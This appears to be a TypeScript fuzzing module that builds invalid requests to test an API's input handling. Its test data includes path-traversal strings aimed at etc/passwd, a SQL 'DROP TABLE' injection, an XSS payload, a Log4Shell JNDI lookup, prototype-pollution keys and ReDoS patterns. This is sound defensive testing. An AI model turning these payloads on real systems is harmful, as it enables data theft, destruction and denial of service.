type Strategy = 'bad-id' | 'unknown-id' | 'bad-body' | 'bad-query' | 'bad-encoding' | 'bad-auth';

/** Docs asset names that are not one of the page's files: traversal, case, NUL, prototype keys. */
const ASSET_SEGMENTS_BAD = [
  '..%2F..%2Fpackage.json',
  '..%2Fpackage.json',
  '..%2F..%2F..%2F..%2Fetc%2Fpasswd',
  '%2Fetc%2Fpasswd',
  'package.json',
  'index.html',
  'swagger-ui.css.map',
  'SWAGGER-UI.CSS',
  'swagger-ui.css%00',
  'swagger-ui.css%2F..',
  'swagger-ui.css%20',
  '.%2Fswagger-ui.css',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
];

function paramOf(pattern: string): string | undefined {
  return /:(\w+)/.exec(pattern)?.[1];
}

function idKindOf(pattern: string): IdKind | undefined {
  const collection = /^\/v1\/([^/]+)\/:(?:id|name)/.exec(pattern)?.[1];
  return collection ? ID_KIND_BY_COLLECTION[collection] : undefined;
}

/** One request to `route` that is invalid in at least one way. */
export function badRequest(ctx: FuzzContext, route: string, spec: RouteSpec): FuzzRequest {
  const { rng } = ctx;
  const [method, pattern] = route.split(' ') as [Method, string];
  const param = paramOf(pattern);
  // A row's id, or an event type's name: both name a row of the tenant.
  const hasId = param === 'id' || param === 'name';
  if (spec.probe) throw new Error(`${route} takes no input: use probeRequest`);
  if (spec.page) return badLoginRequest(ctx, route);
  if (spec.auth === 'public') {
    // A public route with a path parameter (a docs asset): a name that is none of its files.
    if (!param) throw new Error(`generator bug: nothing to make invalid in ${route}`);
    const segment = rng.chance(0.3) ? rng.pick(ID_SEGMENTS_BAD) : rng.pick(ASSET_SEGMENTS_BAD);
    const headers: Record<string, string> = rng.chance(0.5) ? { ...rng.pick(JUNK_HEADERS) } : {};
    if (rng.chance(0.3)) headers.Authorization = badAuth(rng, ctx, 'tenant').value ?? '';
    const query = rng.chance(0.3) ? junkQuery(rng) : '';
    const path = pattern.replace(`:${param}`, segment);
    return { route, kind: 'bad', method, url: query ? `${path}?${query}` : path, headers, why: [`${param} ${segment.slice(0, 60)}`] };
  }
  const strategy = rng.weighted<Strategy>([
    ['bad-id', hasId ? 4 : 0],
    ['unknown-id', hasId ? 1 : 0],
    ['bad-body', spec.body ? 6 : 0],
    ['bad-query', spec.query ? 6 : 0],
    ['bad-encoding', 2.5],
    ['bad-auth', 1.5],
  ]);
  const why: string[] = [];
  const headers: Record<string, string> = {};

  if (strategy === 'bad-auth') {
    const bad = badAuth(rng, ctx, spec.auth);
    if (bad.value !== undefined) headers.Authorization = bad.value;
    why.push(bad.why);
  } else {
    headers.Authorization = `Bearer ${spec.auth === 'admin' ? ctx.adminKey : ctx.tenantKey}`;
  }

  let path = pattern;
  if (hasId) {
    let segment: string;
    if (strategy === 'bad-id') {
      // Long, but within what an HTTP server reads (Node refuses a request head over 16 KiB with a bare 431).
      segment = rng.chance(0.1) ? enc(hugeString(rng, 300)).slice(0, rng.int(300, 6000)) : rng.pick(ID_SEGMENTS_BAD);
      why.push(`id ${segment.slice(0, 60)}`);
    } else if (strategy === 'unknown-id') {
      segment = rng.chance(0.5) ? rng.uuid() : rng.pick(UNKNOWN_UUIDS);
      why.push('unknown id');
    } else {
      const real = ctx.ids[idKindOf(pattern)!];
      segment = real && rng.chance(0.6) ? real : rng.uuid();
    }
    path = pattern.replace(`:${param}`, segment);
  }

  let query = '';
  if (strategy === 'bad-query') {
    const bad = invalidQuery(rng, spec.query!);
    query = bad.query;
    why.push(bad.why);
  } else if (spec.query) {
    if (rng.chance(0.5)) query = queryString(subset(rng, VALID_QUERY[spec.query](rng)));
  } else if (rng.chance(0.15)) {
    query = junkQuery(rng);
  }

  let body: string | Buffer | undefined;
  if (strategy === 'bad-encoding') {
    const bad = badEncoding(rng, ctx, spec.body);
    body = bad.body;
    headers['Content-Type'] = bad.contentType;
    why.push(bad.why);
  } else if (strategy === 'bad-body') {
    const bad = invalidBodyText(rng, spec.body!, ctx);
    body = bad.text;
    why.push(...bad.why);
  } else if (spec.body) {
    // Something else is wrong already: a valid body (full of injection and unicode), a bad one, or none.
    const r = rng.float();
    if (r < 0.6) body = JSON.stringify(validBody(rng, spec.body, ctx));
    else if (r < 0.85) body = invalidBodyText(rng, spec.body, ctx).text;
  } else if (strategy !== 'bad-query' && rng.chance(0.3)) {
    body = anyJson(rng, ctx);
  }
  if (body !== undefined && !headers['Content-Type']) headers['Content-Type'] = 'application/json';

  if (rng.chance(0.2)) Object.assign(headers, rng.pick(JUNK_HEADERS));

  if (why.length === 0) throw new Error(`generator bug: nothing invalid in a request to ${route}`);
  return { route, kind: 'bad', method, url: query ? `${path}?${query}` : path, headers, body, why };
}

/** Tokens that open no portal session: malformed, or well-formed and unknown. */
const LOGIN_TOKENS_BAD = [
  '',
  'x',
  'A'.repeat(42),
  'A'.repeat(43),
  'A'.repeat(44),
  'A'.repeat(5000),
  '%00',
  "'; DROP TABLE portal_sessions; --",
  '<img src=x onerror=alert(1)>',
  '../../etc/passwd',
  '${jndi:ldap://x.example/a}',
  '__proto__',
];

/** The portal's login link with a token that opens nothing, and junk around it. */
function badLoginRequest(ctx: FuzzContext, route: string): FuzzRequest {
  const { rng } = ctx;
  const [method, path] = route.split(' ') as [Method, string];
  const token = () =>
    rng.weighted<() => string>([
      [() => rng.pick(LOGIN_TOKENS_BAD), 3],
      [() => rng.pick([...INJECTIONS, ...NOISE]).replace(/[\ud800-\udfff]/g, '?'), 2],
      [() => `${rng.hex(20)}${rng.hex(20)}abc`, 2],
      [() => rng.uuid(), 1],
    ])();
  const pairs: Array<[string, string, boolean?]> = rng.pick<Array<[string, string, boolean?]>>([
    [],
    [['token', token()]],
    [['token', token()]],
    [
      ['token', token()],
      ['token', token()],
    ],
    [['token', rng.pick(['%', '%zz', '%E0%A4%A', '%00']), true]],
  ]);
  const junk = rng.chance(0.3) ? junkQuery(rng) : '';
  const query = [queryString(pairs), junk].filter(Boolean).join('&');
  const headers: Record<string, string> = rng.chance(0.4) ? { ...rng.pick(JUNK_HEADERS) } : {};
  if (rng.chance(0.3)) headers.Cookie = `hookline_portal=${rng.pick([rng.hex(20) + rng.hex(20) + 'abc', ...LOGIN_TOKENS_BAD])}`;
  return { route, kind: 'bad', method, url: query ? `${path}?${query}` : path, headers, why: [pairs.length ? 'a token that opens nothing' : 'no token'] };
}

/** A request with a method the path does not take. */
export function wrongMethodRequest(ctx: FuzzContext, pattern: string, method: Method, spec: RouteSpec): FuzzRequest {
  const { rng } = ctx;
  const kind = idKindOf(pattern);
  const id = kind && ctx.ids[kind] && rng.chance(0.5) ? ctx.ids[kind]! : pattern.includes(':asset') ? 'swagger-ui.css' : rng.uuid();
  const headers: Record<string, string> = {};
  if (spec.auth !== 'public') headers.Authorization = `Bearer ${spec.auth === 'admin' ? ctx.adminKey : ctx.tenantKey}`;
  let body: string | undefined;
  if (method !== 'GET' && rng.chance(0.5)) {
    body = spec.body ? JSON.stringify(validBody(rng, spec.body, ctx)) : '{}';
    headers['Content-Type'] = 'application/json';
  }
  return {
    route: `${method} ${pattern} (unregistered method)`,
    kind: 'bad',
    method,
    url: pattern.replace(/:\w+/, id),
    headers,
    body,
    why: [`${method} is not a method of ${pattern}`],
  };
}

/** A request with a method that is no HTTP method of this API at all. */
export function unknownMethodRequest(ctx: FuzzContext, pattern: string, method: string, spec: RouteSpec): FuzzRequest {
  const request = wrongMethodRequest(ctx, pattern, 'POST', spec);
  return { ...request, route: `${method} ${pattern} (unknown method)`, method, why: [`${method} is not a method of this API`] };
}

/** A read-only public route, with junk around it that it must ignore. */
export function probeRequest(ctx: FuzzContext, route: string): FuzzRequest {
  const { rng } = ctx;
  const [method, path] = route.split(' ') as [Method, string];
  const headers: Record<string, string> = {};
  const why: string[] = [];
  if (rng.chance(0.4)) {
    const bad = badAuth(rng, ctx, 'tenant');
    if (bad.value !== undefined) headers.Authorization = bad.value;
    why.push(bad.why);
  }
  const n = rng.int(0, 3);
  for (let i = 0; i < n; i++) Object.assign(headers, rng.pick(JUNK_HEADERS));
  const query = rng.chance(0.8) ? junkQuery(rng) : '';
  if (query) why.push('junk query');
  let body: string | undefined;
  if (rng.chance(0.2)) {
    body = rng.pick(MALFORMED_JSON);
    headers['Content-Type'] = rng.pick(['application/json', ...CONTENT_TYPES_BAD]);
    why.push('junk body');
  }
  return { route, kind: 'probe', method, url: query ? `${path}?${query}` : path, headers, body, why };
}

// ---------------------------------------------------------------- hostile receiver answers

/** A 2xx a receiver answers with: a body that is not clean text, under any headers. */
export interface HostileAnswer {
  status: number;
  headers: Record<string, string>;
  body: Buffer;
  why: string;
}

export function hostileAnswer(rng: Rng): HostileAnswer {
  const [what, picked] = rng.chance(0.2) ? ['random bytes', randomBytesOf(rng, rng.int(1, 6000))] : rng.pick(ANSWER_BODIES_HOSTILE);
  const headers: Record<string, string> = {};
  const type = rng.pick(ANSWER_CONTENT_TYPES);
  const encoding = rng.pick(ANSWER_CONTENT_ENCODINGS);
  if (type !== undefined) headers['content-type'] = type;
  if (encoding !== undefined) headers['content-encoding'] = encoding;
  return {
    status: rng.pick([200, 201, 202, 299]),
    headers,
    body: picked,
    why: `${what} as ${type ?? 'no type'}${encoding ? `, encoded ${encoding}` : ''}`,
  };
}

function randomBytesOf(rng: Rng, n: number): Buffer {
  const out = Buffer.alloc(n);
  for (let i = 0; i < n; i++) out[i] = rng.int(0, 255);
  return out;
}

// ---------------------------------------------------------------- case-variant paths and ReDoS

/**
 * A registered route with one static segment (never the /v1 prefix, never a
 * parameter) in another case, sent with the right key and a valid body: with
 * case-sensitive routing it reaches nothing, and must be a 404.
 */
export function caseVariantRequest(ctx: FuzzContext, route: string, spec: RouteSpec): FuzzRequest | undefined {
  const { rng } = ctx;
  const [method, pattern] = route.split(' ') as [Method, string];
  const segments = pattern.split('/');
  const changeable = segments.map((_seg, i) => i).filter((i) => i > 0 && !(i === 1 && segments[i] === 'v1') && /[a-z]/i.test(segments[i]!) && !segments[i]!.startsWith(':'));
  if (changeable.length === 0) return undefined;
  const at = rng.pick(changeable);
  const original = segments[at]!;
  let variant = original;
  while (variant === original) {
    variant = rng.chance(0.4) ? original.toUpperCase() : [...original].map((c) => (rng.chance(0.5) ? c.toUpperCase() : c.toLowerCase())).join('');
  }
  const path = segments
    .map((seg, i) => {
      if (i === at) return variant;
      if (!seg.startsWith(':')) return seg;
      const kind = idKindOf(pattern);
      return (kind && ctx.ids[kind]) ?? rng.uuid();
    })
    .join('/');
  const headers: Record<string, string> = {};
  if (spec.auth !== 'public') headers.Authorization = `Bearer ${spec.auth === 'admin' ? ctx.adminKey : ctx.tenantKey}`;
  let body: string | undefined;
  if (spec.body) {
    body = JSON.stringify(validBody(rng, spec.body, ctx));
    headers['Content-Type'] = 'application/json';
  }
  return { route, kind: 'bad', method, url: path, headers, body, why: [`path in another case: ${path}`], expectStatus: 404 };
}

/** Schemas the limits refuse: patterns RE2 cannot compile, and sizes beyond the bounds. */
const SCHEMAS_REFUSED: unknown[] = [
  { type: 'string', pattern: '^(a)\\1$' },
  { type: 'string', pattern: '(?=a)a' },
  { type: 'string', pattern: '(?<!x)y' },
  { type: 'object', patternProperties: { '(?!secret)': {} } },
  { type: 'string', pattern: 'a'.repeat(1001) },
  { type: 'string', pattern: '(?:[a-z]{1000})'.repeat(8) },
  { type: 'array', uniqueItems: true },
  { type: 'object', description: 'x'.repeat(66_000) },
];

/**
 * Patterns that take exponential or polynomial time on a backtracking
 * engine, each with the character that makes a long run of its repeated
 * part fail at the end.
 */
export const REDOS_PATTERNS: ReadonlyArray<{ pattern: string; unit: string; tail: string }> = [
  { pattern: '^(a+)+$', unit: 'a', tail: '!' },
  { pattern: '^(a|aa)+$', unit: 'a', tail: '!' },
  { pattern: '^(a|a?)+$', unit: 'a', tail: '!' },
  { pattern: '^(\\w+\\s?)*$', unit: 'ab ', tail: '!' },
  { pattern: '^([a-zA-Z0-9]+[._-]?)*@x\\.com$', unit: 'a.', tail: '!' },
  { pattern: '(x+x+)+y', unit: 'x', tail: 'z' },
  { pattern: '^(\\d+)*$', unit: '1', tail: 'a' },
  { pattern: '^((ab)*)*c$', unit: 'ab', tail: 'd' },
];

/** A string that makes `p` backtrack: its unit repeated, then the failing tail. */
export function redosInput(rng: Rng, p: (typeof REDOS_PATTERNS)[number]): string {
  const length = rng.pick([25, 40, 60, 200, 5_000]);
  return p.unit.repeat(Math.ceil(length / p.unit.length)) + p.tail;
}
